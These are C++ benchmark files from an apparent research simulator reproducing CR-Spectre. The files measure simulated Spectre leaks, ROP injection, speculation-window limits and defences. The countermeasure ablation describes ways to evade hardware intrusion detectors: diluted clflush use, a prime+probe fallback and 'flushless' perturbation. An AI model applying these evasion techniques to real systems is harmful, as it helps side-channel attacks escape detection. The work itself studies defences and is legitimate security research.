  WallTimer() : start_(std::chrono::steady_clock::now()) {}
  double ms() const {
    return std::chrono::duration<double, std::milli>(
               std::chrono::steady_clock::now() - start_)
        .count();
  }

 private:
  std::chrono::steady_clock::time_point start_;
};

/// Paper §III-A: 2000 samples per class, 70/30 split downstream.
inline core::CorpusConfig paper_corpus_config() {
  core::CorpusConfig cc;
  cc.windows_per_class = 2000;
  cc.host_scale = 400;
  return cc;
}

inline std::string pct(double fraction) { return fixed(100.0 * fraction, 1); }

inline void print_header(const std::string& title,
                         const std::string& paper_reference) {
  std::printf("==============================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("reproduces: %s\n", paper_reference.c_str());
  std::printf("==============================================================\n");
}

inline void shape_check(const std::string& claim, bool holds) {
  std::printf("[shape %-4s] %s\n", holds ? "OK" : "DIFF", claim.c_str());
}

}  // namespace crs::bench
