// Shared helpers for the figure/table benches.
#pragma once

#include <cstdio>
#include <string>

#include "core/corpus.hpp"
#include "support/strings.hpp"

namespace crs::bench {

/// Paper §III-A: 2000 samples per class, 70/30 split downstream.
inline core::CorpusConfig paper_corpus_config() {
  core::CorpusConfig cc;
  cc.windows_per_class = 2000;
  cc.host_scale = 400;
  return cc;
}

inline std::string pct(double fraction) { return fixed(100.0 * fraction, 1); }

inline void print_header(const std::string& title,
                         const std::string& paper_reference) {
  std::printf("==============================================================\n");
  std::printf("%s\n", title.c_str());
  std::printf("reproduces: %s\n", paper_reference.c_str());
  std::printf("==============================================================\n");
}

inline void shape_check(const std::string& claim, bool holds) {
  std::printf("[shape %-4s] %s\n", holds ? "OK" : "DIFF", claim.c_str());
}

}  // namespace crs::bench
