// Micro-benchmarks of the simulation substrate (google-benchmark).
#include <benchmark/benchmark.h>

#include "attack/spectre.hpp"
#include "bench_json_reporter.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/corpus.hpp"
#include "mitigate/fence_pass.hpp"
#include "rop/gadget.hpp"
#include "sim/block_cache.hpp"
#include "sim/kernel.hpp"
#include "support/parallel.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

// Steady-state retired-instructions/s: one machine built up front, each
// iteration runs a fixed instruction chunk (the workload restarts in-place
// when it halts, like a looping service). The argument selects the engine
// tier so the perf-smoke gate can form ratios from one benchmark:
//   0 = interpreter, decode cache off (the pre-PR-1 baseline)
//   1 = interpreter, decode cache on  (the blocks denominator)
//   2 = threaded-code block engine
void BM_CpuThroughput(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100000;
  const auto prog = workloads::build_workload("bitcount", opt);
  sim::MachineConfig mc;
  mc.cpu.decode_cache = state.range(0) != 0;
  mc.cpu.exec_engine =
      state.range(0) == 2 ? sim::ExecEngine::kBlocks : sim::ExecEngine::kInterp;
  sim::Machine machine(mc);
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/w", prog);
  kernel.start_with_strings("/bin/w", {"w"});
  constexpr std::uint64_t kChunk = 500'000;
  std::int64_t executed = 0;
  for (auto _ : state) {
    const std::uint64_t before = machine.cpu().retired();
    kernel.run(kChunk);
    if (machine.cpu().halted()) kernel.start_with_strings("/bin/w", {"w"});
    executed += static_cast<std::int64_t>(machine.cpu().retired() - before);
  }
  state.SetItemsProcessed(executed);
}
BENCHMARK(BM_CpuThroughput)
    ->Arg(2)
    ->Arg(1)
    ->Arg(0)
    ->Unit(benchmark::kMillisecond);

// Block-translation cost (blocks/s) and steady-state hit rate. Each
// iteration dirties the hot page's version (a same-value byte write) so the
// next acquire takes the full guard-miss retranslation path — the cost a
// self-modifying store or fence-pass rewrite inflicts at runtime.
void BM_BlockTranslation(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100000;
  const auto prog = workloads::build_workload("bitcount", opt);
  sim::MachineConfig mc;
  mc.cpu.exec_engine = sim::ExecEngine::kBlocks;  // immune to CRS_EXEC
  sim::Machine machine(mc);
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/w", prog);
  kernel.start_with_strings("/bin/w", {"w"});
  kernel.run(50'000);  // warm the block cache over the hot loop
  sim::BlockCache* cache = machine.cpu().block_cache();
  const std::uint64_t entry = kernel.main_image().lo;
  for (auto _ : state) {
    machine.memory().write_u8(entry, machine.memory().read_u8(entry));
    benchmark::DoNotOptimize(cache->acquire(entry));
  }
  state.SetItemsProcessed(state.iterations());
  const auto& stats = cache->stats();
  state.counters["hit_rate"] = benchmark::Counter(
      static_cast<double>(stats.hits) /
      static_cast<double>(stats.hits + stats.translations +
                          stats.retranslations));
}
BENCHMARK(BM_BlockTranslation);

// Thread-count sweep over the parallel experiment runner: a small benign
// corpus build (windows/s). Identical output for every Arg by construction;
// wall time is what varies with the worker count.
void BM_CorpusThreads(benchmark::State& state) {
  core::CorpusConfig cc;
  cc.windows_per_class = 64;
  cc.host_scale = 400;
  cc.seed = 9;
  std::int64_t windows = 0;
  for (auto _ : state) {
    set_thread_override(static_cast<unsigned>(state.range(0)));
    const auto corpus = core::build_benign_corpus(cc);
    set_thread_override(0);
    windows += static_cast<std::int64_t>(corpus.size());
  }
  state.SetItemsProcessed(windows);
}
BENCHMARK(BM_CorpusThreads)
    ->Arg(1)
    ->Arg(2)
    ->Arg(8)
    ->Unit(benchmark::kMillisecond);

void BM_CacheAccess(benchmark::State& state) {
  sim::MemoryHierarchy hier;
  std::uint64_t addr = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(hier.access_data(addr));
    addr = (addr + 64) & 0xFFFFF;
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CacheAccess);

void BM_BranchPredictor(benchmark::State& state) {
  sim::BranchPredictor bp;
  std::uint64_t pc = 0x10000;
  bool taken = false;
  for (auto _ : state) {
    benchmark::DoNotOptimize(bp.pht().predict_taken(pc));
    bp.pht().update(pc, taken);
    taken = !taken;
    pc += 8;
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BranchPredictor);

void BM_Assemble(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100;
  const auto source = workloads::generate_workload_source("sha", opt) +
                      casm::runtime_library();
  for (auto _ : state) {
    benchmark::DoNotOptimize(casm::assemble(source));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_Assemble)->Unit(benchmark::kMicrosecond);

void BM_GadgetScan(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100;
  const auto prog = workloads::build_workload("basicmath", opt);
  rop::GadgetScanner scanner;
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan(prog));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_GadgetScan)->Unit(benchmark::kMicrosecond);

void BM_AttackBinaryGeneration(benchmark::State& state) {
  attack::AttackConfig cfg;
  cfg.embed_secret = "MICROBENCH-SECRT";
  cfg.perturb = true;
  for (auto _ : state) {
    benchmark::DoNotOptimize(attack::build_attack_binary(cfg));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_AttackBinaryGeneration)->Unit(benchmark::kMicrosecond);

// Throughput of the load-time fence-insertion hardening pass (pages/s):
// one decode+classify sweep over a real workload image, the cost every
// hardened load pays at map time.
void BM_FenceInsertion(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 1000;
  const auto pristine = workloads::build_workload("bitcount", opt);
  std::uint64_t pages = 0;
  for (auto _ : state) {
    sim::Program prog = pristine;  // rewrite a fresh copy each iteration
    const auto stats = mitigate::insert_bounds_fences(prog);
    benchmark::DoNotOptimize(stats.fences_planted);
    pages += stats.pages_scanned;
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(pages));
}
BENCHMARK(BM_FenceInsertion)->Unit(benchmark::kMicrosecond);

void BM_SpectreEndToEnd(benchmark::State& state) {
  attack::AttackConfig cfg;
  cfg.embed_secret = "MICROBENCH-SECRT";
  cfg.secret_length = 16;
  const auto prog = attack::build_attack_binary(cfg);
  for (auto _ : state) {
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/a", prog);
    kernel.start_with_strings("/bin/a", {});
    kernel.run(1'000'000'000);
    benchmark::DoNotOptimize(kernel.output_string());
  }
  state.SetItemsProcessed(state.iterations() * 16);  // bytes leaked
}
BENCHMARK(BM_SpectreEndToEnd)->Unit(benchmark::kMillisecond);

}  // namespace

int main(int argc, char** argv) {
  return crs::bench::run_micro_benchmarks(argc, argv);
}
