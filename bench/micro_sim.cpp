// Micro-benchmarks of the simulation substrate (google-benchmark).
#include <benchmark/benchmark.h>

#include "attack/spectre.hpp"
#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "rop/gadget.hpp"
#include "sim/kernel.hpp"
#include "workloads/workloads.hpp"

namespace {

using namespace crs;

void BM_CpuThroughput(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100000;
  const auto prog = workloads::build_workload("bitcount", opt);
  for (auto _ : state) {
    state.PauseTiming();
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/w", prog);
    kernel.start_with_strings("/bin/w", {"w"});
    state.ResumeTiming();
    kernel.run(2'000'000'000);
    state.SetItemsProcessed(state.items_processed() +
                            static_cast<std::int64_t>(machine.cpu().retired()));
  }
}
BENCHMARK(BM_CpuThroughput)->Unit(benchmark::kMillisecond);

void BM_CacheAccess(benchmark::State& state) {
  sim::MemoryHierarchy hier;
  std::uint64_t addr = 0;
  for (auto _ : state) {
    benchmark::DoNotOptimize(hier.access_data(addr));
    addr = (addr + 64) & 0xFFFFF;
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_CacheAccess);

void BM_BranchPredictor(benchmark::State& state) {
  sim::BranchPredictor bp;
  std::uint64_t pc = 0x10000;
  bool taken = false;
  for (auto _ : state) {
    benchmark::DoNotOptimize(bp.pht().predict_taken(pc));
    bp.pht().update(pc, taken);
    taken = !taken;
    pc += 8;
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_BranchPredictor);

void BM_Assemble(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100;
  const auto source = workloads::generate_workload_source("sha", opt) +
                      casm::runtime_library();
  for (auto _ : state) {
    benchmark::DoNotOptimize(casm::assemble(source));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_Assemble)->Unit(benchmark::kMicrosecond);

void BM_GadgetScan(benchmark::State& state) {
  workloads::WorkloadOptions opt;
  opt.scale = 100;
  const auto prog = workloads::build_workload("basicmath", opt);
  rop::GadgetScanner scanner;
  for (auto _ : state) {
    benchmark::DoNotOptimize(scanner.scan(prog));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_GadgetScan)->Unit(benchmark::kMicrosecond);

void BM_AttackBinaryGeneration(benchmark::State& state) {
  attack::AttackConfig cfg;
  cfg.embed_secret = "MICROBENCH-SECRT";
  cfg.perturb = true;
  for (auto _ : state) {
    benchmark::DoNotOptimize(attack::build_attack_binary(cfg));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_AttackBinaryGeneration)->Unit(benchmark::kMicrosecond);

void BM_SpectreEndToEnd(benchmark::State& state) {
  attack::AttackConfig cfg;
  cfg.embed_secret = "MICROBENCH-SECRT";
  cfg.secret_length = 16;
  const auto prog = attack::build_attack_binary(cfg);
  for (auto _ : state) {
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/a", prog);
    kernel.start_with_strings("/bin/a", {});
    kernel.run(1'000'000'000);
    benchmark::DoNotOptimize(kernel.output_string());
  }
  state.SetItemsProcessed(state.iterations() * 16);  // bytes leaked
}
BENCHMARK(BM_SpectreEndToEnd)->Unit(benchmark::kMillisecond);

}  // namespace

BENCHMARK_MAIN();
