// Countermeasure study: what would stop CR-Spectre? (quantifies paper §IV)
//
// The paper proposes (1) disabling clflush/mfence for unprivileged
// processes, (2) manual inspection of overflow-prone processes, and
// (3) shadow return-address memory. This bench quantifies the detector-side
// equivalents our simulator can measure:
//
//   a. privileged flush monitor — §IV proposes disabling clflush/mfence
//      for non-privileged processes; the measurable equivalent is a
//      kernel-level monitor that treats *any* sustained unprivileged
//      clflush activity as anomalous. Algorithm 2 cannot mask its own
//      flushes (dilution lowers the rate but not to zero), so the
//      otherwise-evading variant is caught. Notably, merely handing the
//      same counters to the ML detector is NOT enough — the diluted flush
//      rate sits between the trained attack cluster and benign zero, and
//      the classifier generalises it to the benign side (measured below);
//   b. shadow-stack signal — the ROP overflow itself fires an RSB/return
//      mismatch, the µ-arch shadow of §IV's "shadow memory to compare ...
//      return address manipulation": we show the injected run always
//      carries RSB-mispredict events the benign run lacks;
//   c. the architectural defenses (stack canary, ASLR) covered by
//      tests/test_rop.cpp and examples/rop_injection.
#include <cstdio>

#include "bench_util.hpp"
#include "core/campaign.hpp"
#include "hid/features.hpp"
#include "support/table.hpp"
#include "workloads/workloads.hpp"

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — countermeasures (quantifying §IV)",
                      "privileged-counter HID and the ROP shadow signal");

  core::CorpusConfig cc = bench::paper_corpus_config();
  cc.windows_per_class = 1200;
  const auto benign = core::build_benign_corpus(cc);
  const auto attack = core::build_attack_corpus(cc);

  // The evading CR-Spectre configuration from Fig. 5(b).
  core::ScenarioConfig evader;
  evader.rop_injected = true;
  evader.perturb = true;
  evader.perturb_params.delay = 500;
  evader.perturb_params.loop_count = 16;
  evader.perturb_params.style = perturb::MimicStyle::kBranchy;
  evader.host_scale = 8000;
  evader.seed = 31337;
  const auto run = core::run_scenario(evader);

  // a. Feature-pool comparison.
  Table table({"detector feature pool", "features", "detection of the "
               "Fig.5(b) evader"});
  double visible_rate = 1.0, privileged_rate = 0.0;
  for (const bool privileged : {false, true}) {
    hid::DetectorConfig dc;
    dc.classifier = "MLP";
    dc.features = hid::paper_feature_indices();
    if (privileged) {
      // Extend the paper's six features with the privileged counters a
      // kernel-assisted deployment could expose.
      dc.features.push_back(static_cast<std::size_t>(sim::Event::kClflushes));
      dc.features.push_back(static_cast<std::size_t>(sim::Event::kMfences));
      dc.features.push_back(
          static_cast<std::size_t>(sim::Event::kSpecInstructions));
      dc.features.push_back(
          static_cast<std::size_t>(sim::Event::kRsbMispredicts));
    }
    hid::HidDetector det(dc);
    ml::Dataset init = benign;
    init.append_all(attack);
    det.fit(init);

    std::string names;
    for (const auto f : det.selected_features()) {
      if (!names.empty()) names += ", ";
      names += hid::feature_name(f);
    }
    const double rate = det.detection_rate(run.attack_windows);
    (privileged ? privileged_rate : visible_rate) = rate;
    table.add_row({privileged ? "privileged (adds clflush/fence/spec/RSB)"
                              : "PAPI-visible (deployable today)",
                   names, bench::pct(rate) + "%"});
  }
  std::printf("%s\n", table.render().c_str());
  std::printf("(the ML detector generalises the diluted flush rate toward "
              "benign-zero: more counters alone do not fix it)\n\n");

  // The rule-based privileged monitor: flag any window whose clflush rate
  // exceeds what measurement noise could explain.
  std::size_t flagged = 0;
  for (const auto& w : run.attack_windows) {
    const auto f = hid::feature_vector(w.delta);
    if (f[static_cast<std::size_t>(sim::Event::kClflushes)] > 1.0) ++flagged;
  }
  const double rule_rate =
      run.attack_windows.empty()
          ? 0.0
          : static_cast<double>(flagged) /
                static_cast<double>(run.attack_windows.size());
  std::size_t benign_flagged = 0;
  std::size_t benign_total = benign.size();
  for (std::size_t i = 0; i < benign.size(); ++i) {
    if (benign.x.row(i)[static_cast<std::size_t>(sim::Event::kClflushes)] >
        1.0) {
      ++benign_flagged;
    }
  }
  std::printf("rule-based flush monitor (window flagged when clflush > "
              "1/kilo-instr):\n  evader windows flagged: %s%%   benign "
              "windows flagged: %s%%\n\n",
              bench::pct(rule_rate).c_str(),
              bench::pct(static_cast<double>(benign_flagged) /
                         static_cast<double>(benign_total)).c_str());

  bench::shape_check("the evader beats the PAPI-visible detector (<55%)",
                     visible_rate < 0.55);
  bench::shape_check(
      "an ML detector with privileged counters still misses the diluted "
      "variant (<55%) — counters alone are not the fix",
      privileged_rate < 0.55);
  bench::shape_check(
      "the rule-based privileged flush monitor catches it (>80% of attack "
      "windows, ~0 benign false positives) — §IV's clflush restriction "
      "works",
      rule_rate > 0.80 &&
          benign_flagged < benign_total / 50);

  // a2. The arms race: under a clflush ban the attacker switches to the
  // prime+probe receiver (zero clflush, zero mfence). The flush monitor
  // goes blind; what does the ML HID see?
  {
    core::ScenarioConfig pp = evader;
    pp.rop_injected = false;  // standalone: the channel is what matters here
    pp.perturb = false;       // Algorithm 2 itself uses clflush — banned too
    const auto source = [&] {
      attack::AttackConfig acfg = core::make_attack_config(pp, 0);
      acfg.embed_secret = pp.secret;
      acfg.channel = attack::CovertChannel::kPrimeProbe;
      acfg.rounds_per_byte = 3;
      return acfg;
    }();
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/pp", attack::build_attack_binary(source));
    const auto run = hid::profile_run_strings(kernel, "/bin/pp", {"pp"}, {});
    const bool leaked = run.output == pp.secret;

    std::size_t pp_flagged = 0;
    for (const auto& w : run.windows) {
      const auto f = hid::feature_vector(w.delta);
      if (f[static_cast<std::size_t>(sim::Event::kClflushes)] > 1.0)
        ++pp_flagged;
    }
    hid::DetectorConfig dc;
    dc.classifier = "MLP";
    dc.features = hid::paper_feature_indices();
    hid::HidDetector det(dc);
    ml::Dataset init = benign;
    init.append_all(attack);
    det.fit(init);
    const double ml_rate = det.detection_rate(run.windows);

    std::printf("arms race: prime+probe CR-Spectre (no clflush/mfence at "
                "all) — secret %s\n",
                leaked ? "LEAKED" : "not recovered");
    std::printf("  flush monitor flags %s%% of its windows; visible-feature "
                "ML HID detects %s%%\n\n",
                bench::pct(static_cast<double>(pp_flagged) /
                           static_cast<double>(run.windows.size())).c_str(),
                bench::pct(ml_rate).c_str());
    bench::shape_check(
        "the prime+probe fallback defeats the flush monitor (0% flagged) — "
        "a clflush ban alone is not the end of the arms race",
        leaked && pp_flagged == 0);
    std::printf("  (the visible-feature HID's rate on the prime+probe "
                "attack is reported above for reference: its miss-heavy\n"
                "   streaming pattern resembles benign media/KV workloads, "
                "so detectability is configuration-dependent)\n\n");
  }

  // a3. The final act: the banned attacker perturbs too — Algorithm 2
  // with eviction walks instead of clflush/mfence, plus dispersal. Fully
  // flush-free AND diluted.
  {
    core::ScenarioConfig pp = evader;
    pp.rop_injected = false;
    attack::AttackConfig acfg = core::make_attack_config(pp, 0);
    acfg.embed_secret = pp.secret;
    acfg.channel = attack::CovertChannel::kPrimeProbe;
    acfg.rounds_per_byte = 3;
    acfg.perturb = true;
    acfg.perturb_params.flushless = true;
    acfg.perturb_params.delay = 2000;
    acfg.perturb_params.loop_count = 12;
    sim::Machine machine;
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/ppf", attack::build_attack_binary(acfg));
    const auto run = hid::profile_run_strings(kernel, "/bin/ppf", {"ppf"}, {});

    hid::DetectorConfig dc;
    dc.classifier = "MLP";
    dc.features = hid::paper_feature_indices();
    hid::HidDetector det(dc);
    ml::Dataset init = benign;
    init.append_all(attack);
    det.fit(init);
    const double ml_rate = det.detection_rate(run.windows);
    const bool leaked = run.output == pp.secret;
    std::printf("final act: prime+probe + flushless Algorithm 2 + "
                "dispersal — secret %s, ML HID detects %s%%, flushes %llu\n\n",
                leaked ? "LEAKED" : "not recovered",
                bench::pct(ml_rate).c_str(),
                static_cast<unsigned long long>(
                    machine.pmu().count(sim::Event::kClflushes)));
    bench::shape_check(
        "a fully flush-free, diluted CR-Spectre evades both the flush "
        "monitor and the ML HID (<55%) — the complete counter-countermeasure",
        leaked && ml_rate < 0.55);
  }

  // b. The ROP shadow signal.
  std::uint64_t injected_rsb = 0;
  for (const auto& w : run.profile.windows) {
    injected_rsb +=
        w.true_delta[static_cast<std::size_t>(sim::Event::kRsbMispredicts)];
  }
  core::ScenarioConfig benign_sc = evader;
  benign_sc.rop_injected = false;
  benign_sc.perturb = false;
  // A benign host run: same host, benign input.
  std::uint64_t benign_rsb = 0;
  {
    sim::Machine machine;
    sim::Kernel kernel(machine);
    workloads::WorkloadOptions wopt;
    wopt.scale = 8000;
    wopt.secret = evader.secret;
    kernel.register_binary("/bin/h",
                           workloads::build_workload("basicmath", wopt));
    const auto p = hid::profile_run_strings(kernel, "/bin/h",
                                            {"basicmath", "hello"}, {});
    for (const auto& w : p.windows) {
      benign_rsb +=
          w.true_delta[static_cast<std::size_t>(sim::Event::kRsbMispredicts)];
    }
  }
  std::printf("shadow-stack signal: return-address/RSB mismatches — benign "
              "host run %llu, ROP-injected run %llu\n\n",
              static_cast<unsigned long long>(benign_rsb),
              static_cast<unsigned long long>(injected_rsb));
  bench::shape_check(
      "the ROP overflow leaves a return-address mismatch the benign run "
      "lacks — §IV's shadow-memory check would fire",
      injected_rsb > benign_rsb);
  io.emit("ablation_countermeasures", timer.ms(), 1e3 / timer.ms());
  return 0;
}
