// Ablation: how deep must speculation run for the leak to work?
//
// Sweeps the CPU's wrong-path window (ROB-style bound on transient
// execution) and reports whether the standalone attack recovers the
// secret, per variant. The Spectre-PHT/stride gadget needs ~8 transient
// instructions; the RSB gadget ~5. Window 0 is the InvisiSpec-style
// "no transient side effects" baseline. This is the design-choice study
// for CpuConfig::max_spec_window called out in DESIGN.md.
#include <cstdio>

#include "attack/spectre.hpp"
#include "bench_util.hpp"
#include "sim/kernel.hpp"
#include "support/table.hpp"

namespace {

bool recovers(crs::attack::SpectreVariant variant, std::uint32_t window,
              std::string* out = nullptr) {
  using namespace crs;
  const std::string secret = "WINDOW-SWEEP-KEY";
  attack::AttackConfig cfg;
  cfg.variant = variant;
  cfg.embed_secret = secret;
  cfg.secret_length = static_cast<std::uint32_t>(secret.size());
  sim::MachineConfig mcfg;
  mcfg.cpu.max_spec_window = window;
  sim::Machine machine(mcfg);
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/a", attack::build_attack_binary(cfg));
  kernel.start_with_strings("/bin/a", {});
  kernel.run(500'000'000);
  if (out != nullptr) *out = kernel.output_string();
  return kernel.output_string() == secret;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace crs;
  bench::BenchIo io(argc, argv);
  bench::WallTimer timer;
  bench::print_header("Ablation — speculation window vs leak success",
                      "design study (InvisiSpec-style defense at window 0)");

  const std::uint32_t windows[] = {0, 2, 4, 6, 8, 12, 16, 32, 64, 128};
  Table table({"window", "spectre-pht", "spectre-rsb", "spectre-stride",
               "spectre-btb"});
  bool zero_blocked = true;
  bool large_works = true;
  for (const auto w : windows) {
    std::vector<std::string> row{std::to_string(w)};
    for (const auto v : attack::all_variants()) {
      const bool ok = recovers(v, w);
      row.push_back(ok ? "leaks" : "safe");
      if (w == 0 && ok) zero_blocked = false;
      if (w >= 32 && !ok) large_works = false;
    }
    table.add_row(row);
  }
  std::printf("%s\n", table.render().c_str());
  bench::shape_check("window 0 (no transient execution) blocks every variant",
                     zero_blocked);
  bench::shape_check("a realistic window (>=32) leaks for every variant",
                     large_works);
  io.emit("ablation_spec_window", timer.ms(), 1e3 / timer.ms());
  return 0;
}
