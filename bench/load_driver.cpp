// load_driver — replay a mixed-config request stream against an in-process
// campaign service and measure scheduling quality.
//
// The experiment behind the serving numbers in EXPERIMENTS.md: R scenario
// requests cycling over C distinct configs are fired at a server twice —
// once with cache-affinity routing (jobs land on the shard whose session
// cache is warm for their config) and once with round-robin routing (the
// control arm, whose per-shard LRU thrashes on the cyclic config stream).
// Per-request latency is measured client-side, submit to RESULT.
//
//   load_driver [--requests N] [--configs N] [--shards N] [--attempts N]
//               [--host-scale N] [--threads N] [--bench-json <path>]
//
// --bench-json records (items_per_s semantics in parentheses):
//   BM_ServeLoad/affinity,noaffinity        (requests per second)
//   BM_ServeP50Inverse/affinity,noaffinity  (1000 / p50 latency ms)
//   BM_ServeP95Inverse/affinity             (1000 / p95 latency ms)
//   BM_ServeAttempts/affinity               (scenario attempts per second)
//
// perf-smoke gates BM_ServeP95Inverse + BM_ServeAttempts floors and the
// affinity/noaffinity p50 ratio (>= 2x) via bench/baselines/perf_smoke.json.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <numeric>
#include <string>
#include <vector>

#include "bench_util.hpp"
#include "serve/client.hpp"
#include "serve/server.hpp"
#include "support/error.hpp"
#include "support/flags.hpp"
#include "support/stats.hpp"

namespace {

using namespace crs;

struct LoadResult {
  double wall_ms = 0.0;
  double p50_ms = 0.0;
  double p95_ms = 0.0;
  std::uint64_t attempts = 0;
};

/// Distinct-but-cheap scenario configs whose affinity keys split as evenly
/// as possible across `shards`. Returns the configs plus the largest
/// per-shard working set (the session-cache size the affinity arm needs to
/// keep every routed config warm).
struct ConfigSet {
  std::vector<core::ScenarioConfig> configs;
  std::size_t max_per_shard = 0;
};

ConfigSet make_configs(int count, int shards, std::uint64_t host_scale) {
  ConfigSet out;
  std::vector<int> per_shard(static_cast<std::size_t>(shards), 0);
  const int want_per_shard = (count + shards - 1) / shards;
  for (std::uint64_t salt = 0; static_cast<int>(out.configs.size()) < count;
       ++salt) {
    core::ScenarioConfig cfg;
    cfg.rop_injected = false;  // standalone: no ROP recon in the hot path
    cfg.host_scale = host_scale + salt;  // distinct session identity
    cfg.seed = 1 + salt;
    core::JobSpec probe;
    probe.kind = core::JobKind::kScenario;
    probe.scenario.config = cfg;
    const auto shard = static_cast<std::size_t>(
        core::job_affinity_key(probe) % static_cast<std::uint64_t>(shards));
    if (per_shard[shard] >= want_per_shard) continue;
    ++per_shard[shard];
    out.configs.push_back(cfg);
  }
  for (const int n : per_shard) {
    out.max_per_shard =
        std::max(out.max_per_shard, static_cast<std::size_t>(n));
  }
  return out;
}

LoadResult run_load(const ConfigSet& set, int requests, int shards,
                    int attempts, bool affinity) {
  const std::vector<core::ScenarioConfig>& configs = set.configs;
  serve::ServeConfig scfg;
  scfg.shards = shards;
  scfg.queue_capacity = static_cast<std::size_t>(requests) + 1;
  scfg.affinity = affinity;
  scfg.tcp_port = 0;
  // Sized for the affinity arm's per-shard working set; the round-robin
  // arm sees every config on every shard (the config count is coprime to
  // the shard count, so the cyclic stream cannot accidentally partition)
  // and pays an LRU miss — a full session rebuild — per request. That
  // asymmetry is the measurement.
  scfg.session_cache_capacity = set.max_per_shard;

  serve::Server server(scfg);
  server.start();
  serve::Client client = serve::Client::connect_tcp(server.port());

  LoadResult result;
  std::vector<double> latencies;
  latencies.reserve(static_cast<std::size_t>(requests));

  const auto t0 = std::chrono::steady_clock::now();
  for (int i = 0; i < requests; ++i) {
    core::JobSpec spec;
    spec.kind = core::JobKind::kScenario;
    spec.id = static_cast<std::uint64_t>(i);
    spec.scenario.config =
        configs[static_cast<std::size_t>(i) % configs.size()];
    spec.scenario.attempts = attempts;

    const auto r0 = std::chrono::steady_clock::now();
    const serve::Client::JobResult job = client.run(spec);
    const auto r1 = std::chrono::steady_clock::now();
    CRS_ENSURE(job.accepted && job.status == "ok",
               "load_driver: request " + std::to_string(i) + " failed");
    latencies.push_back(
        std::chrono::duration<double, std::milli>(r1 - r0).count());
    result.attempts += static_cast<std::uint64_t>(attempts);
  }
  result.wall_ms = std::chrono::duration<double, std::milli>(
                       std::chrono::steady_clock::now() - t0)
                       .count();
  result.p50_ms = percentile(latencies, 50.0);
  result.p95_ms = percentile(latencies, 95.0);

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();
  CRS_ENSURE(stats.received == static_cast<std::uint64_t>(requests) &&
                 stats.completed == static_cast<std::uint64_t>(requests),
             "load_driver: stats do not reconcile");
  return result;
}

}  // namespace

int main(int argc, char** argv) {
  try {
    bench::BenchIo io(argc, argv);
    int requests = 400;
    int configs = 9;
    int shards = 2;
    int attempts = 1;
    std::uint64_t host_scale = 2000;

    FlagCursor args(argc, argv);
    while (args.more()) {
      if (args.take_int("--requests", requests)) {
      } else if (args.take_int("--configs", configs)) {
      } else if (args.take_int("--shards", shards)) {
      } else if (args.take_int("--attempts", attempts)) {
      } else if (args.take_u64("--host-scale", host_scale)) {
      } else {
        args.unknown();
      }
    }
    CRS_ENSURE(std::gcd(configs, shards) == 1,
               "--configs must be coprime to --shards (otherwise the "
               "round-robin arm partitions the cyclic stream instead of "
               "thrashing)");

    const ConfigSet cfgs = make_configs(configs, shards, host_scale);

    std::printf("load_driver: %d requests over %d configs, %d shards, "
                "%d attempt(s) per job\n",
                requests, configs, shards, attempts);
    const LoadResult warm = run_load(cfgs, requests, shards, attempts, true);
    const LoadResult cold = run_load(cfgs, requests, shards, attempts, false);

    const auto report = [&](const char* name, const LoadResult& r) {
      std::printf(
          "  %-10s  %8.1f req/s   p50 %7.3f ms   p95 %7.3f ms   "
          "%8.1f attempts/s\n",
          name, requests / (r.wall_ms / 1e3), r.p50_ms, r.p95_ms,
          static_cast<double>(r.attempts) / (r.wall_ms / 1e3));
    };
    report("affinity", warm);
    report("noaffinity", cold);
    std::printf("  affinity p50 speedup: %.2fx\n", cold.p50_ms / warm.p50_ms);

    io.emit("BM_ServeLoad/affinity", warm.wall_ms,
            requests / (warm.wall_ms / 1e3));
    io.emit("BM_ServeLoad/noaffinity", cold.wall_ms,
            requests / (cold.wall_ms / 1e3));
    io.emit("BM_ServeP50Inverse/affinity", warm.p50_ms, 1000.0 / warm.p50_ms);
    io.emit("BM_ServeP50Inverse/noaffinity", cold.p50_ms,
            1000.0 / cold.p50_ms);
    io.emit("BM_ServeP95Inverse/affinity", warm.p95_ms, 1000.0 / warm.p95_ms);
    io.emit("BM_ServeAttempts/affinity", warm.wall_ms,
            static_cast<double>(warm.attempts) / (warm.wall_ms / 1e3));
    return 0;
  } catch (const crs::Error& e) {
    std::fprintf(stderr, "load_driver: %s\n", e.what());
    return 1;
  }
}
